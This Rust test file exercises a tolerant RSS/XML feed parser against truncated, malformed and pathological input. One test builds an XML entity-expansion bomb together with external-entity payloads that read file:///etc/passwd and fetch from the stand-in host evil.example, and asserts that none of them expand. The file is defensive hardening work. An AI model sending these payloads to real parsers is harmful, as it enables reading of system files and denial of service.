use std::fmt::Write;

use super::*;

#[test]
fn broken_documents_give_what_they_have() {
    let truncated = read(
        "junk <rss><channel><title>A</title><item><title>One & two</title><link>https://a.example/1</link></item><item><title>Cut of",
    );
    assert_eq!(titles(&truncated), ["One & two", "Cut of"]);
    let cut = read("<rss><channel><item><title>A</title></item><item><title><![CDATA[B");
    assert_eq!(titles(&cut), ["A", "B"]);
    let cut = read(
        "<rss><channel><item><title>A</title></item><item><title>B</title><enclosure url=\"https://a.example/",
    );
    assert_eq!(titles(&cut), ["A", "B"]);
    let cut = read(
        "<rss><channel><item><title>A</title><!-- never ended <item><title>B</title></item></channel></rss>",
    );
    assert_eq!(titles(&cut), ["A", "B"]);
}

#[test]
fn stray_bytes_before_the_prolog() {
    for before in [
        "\n\n  ",
        "\u{feff}\u{feff}",
        "\0",
        "<!-- c -->",
        "Warning: x in y.php on line 3<br />\n<b>x</b><br><p>",
        "<?xml?xml version=1?>",
    ] {
        let feed = read(&format!(
            "{before}<?xml version=\"1.0\"?><rss><channel><item><title>A</title></item></channel></rss>"
        ));
        assert_eq!(titles(&feed), ["A"], "{before}");
    }
}

#[test]
fn entities_and_ampersands() {
    let entry = item(
        "<title>caf&eacute; &unknown; R&D &#8212; &#x41;\u{1} &amp</title><link>https://a.example/?a=1&b=2&copy=3</link>",
    );
    assert_eq!(entry.title.as_deref(), Some("café &unknown; R&D — A &amp"));
    assert_eq!(entry.link.unwrap().as_str(), "https://a.example/?a=1&b=2&copy=3");
}

#[test]
fn items_that_never_end_and_items_in_items() {
    let nested = read(
        "<rss><channel><item><title>A</title><item><title>B</title></item><link>https://a.example/a</link></item><item><title>C</title></item></channel></rss>",
    );
    assert_eq!(titles(&nested), ["A", "B", "C"]);
    assert_eq!(nested.entries[0].link.as_ref().unwrap().as_str(), "https://a.example/a");
    let unclosed = read(&format!(
        "<rss><channel>{}</channel></rss>",
        "<item><title>A</title><link>https://a.example/</link>".repeat(50)
    ));
    assert_eq!(unclosed.entries.len(), 50);
    assert!(unclosed.entries.iter().all(|entry| entry.title.as_deref() == Some("A") && entry.link.is_some()));
}

#[test]
fn a_feed_copied_from_a_browser() {
    let feed = read(
        "-<rss>\n-<channel>\n-<item>\n\n-<title>\n\n-<![CDATA[A - B]]>\n</title>\n\n-<link>\n\n-<![CDATA[https://a.example/1]]>\n</link>\n</item></channel></rss>",
    );
    assert_eq!(titles(&feed), ["A - B"]);
    assert_eq!(feed.entries[0].link.as_ref().unwrap().as_str(), "https://a.example/1");
}

#[test]
fn nothing_is_expanded_and_nothing_grows() {
    let mut bomb = "<!DOCTYPE x [<!ENTITY a0 \"aaaaaaaaaa\">".to_owned();
    for level in 1..30 {
        let _ = write!(bomb, "<!ENTITY a{level} \"{}\">", format!("&a{};", level - 1).repeat(10));
    }
    bomb.push_str(
        "<!ENTITY f SYSTEM \"file:///etc/passwd\"><!ENTITY % p SYSTEM \"https://evil.example/\">%p;]>",
    );
    bomb.push_str("<rss><channel><item><title>&a29;&f;</title></item></channel></rss>");
    assert_eq!(titles(&read(&bomb)), ["&a29;&f;"]);
}

#[test]
fn hard_documents_are_read_in_no_time() {
    let rss = |inside: &str| format!("<rss><item><title>{inside}</title></item></rss>");
    let hard = [
        rss(&"<".repeat(300_000)),
        rss(&"&".repeat(200_000)),
        rss(&"&amp;".repeat(200_000)),
        rss(&"&amp;amp;lt;".repeat(100_000)),
        rss(&"<![CDATA[".repeat(100_000)),
        rss(&"<![CDATA[x</title><title>".repeat(50_000)) + "]]>",
        rss(&"<!--".repeat(100_000)),
        rss(&"<? >".repeat(200_000)),
        rss(&"<?".repeat(200_000)),
        rss(&"<!".repeat(200_000)),
        rss(&"</".repeat(200_000)),
        rss(&"<b ='".repeat(200_000)),
        "<a>".repeat(300_000),
        "<item>".repeat(100_000),
        "<title><link>".repeat(100_000),
        format!("<rss>{}", "<x:a xmlns:x='http://purl.org/dc/terms'>".repeat(50_000)),
        format!("<a {}", "b=\"1\" ".repeat(200_000)),
        "{\"a\":\"".to_owned() + &"\\".repeat(500_000),
        "<a href='x.rss'>".repeat(50_000),
        "&lt;rss".repeat(100_000),
        "(".repeat(500_000),
    ];
    for document in hard {
        let start = std::time::Instant::now();
        let _ = parse(document.as_bytes(), None, None);
        let spent = start.elapsed();
        assert!(spent.as_secs() < 30, "{} took {spent:?}", document.chars().take(60).collect::<String>());
    }
}

#[test]
fn no_more_entries_than_anyone_reads() {
    let feed = read(&format!("<rss>{}</rss>", "<item/>".repeat(10_500)));
    assert_eq!(feed.entries.len(), 10_000);
}
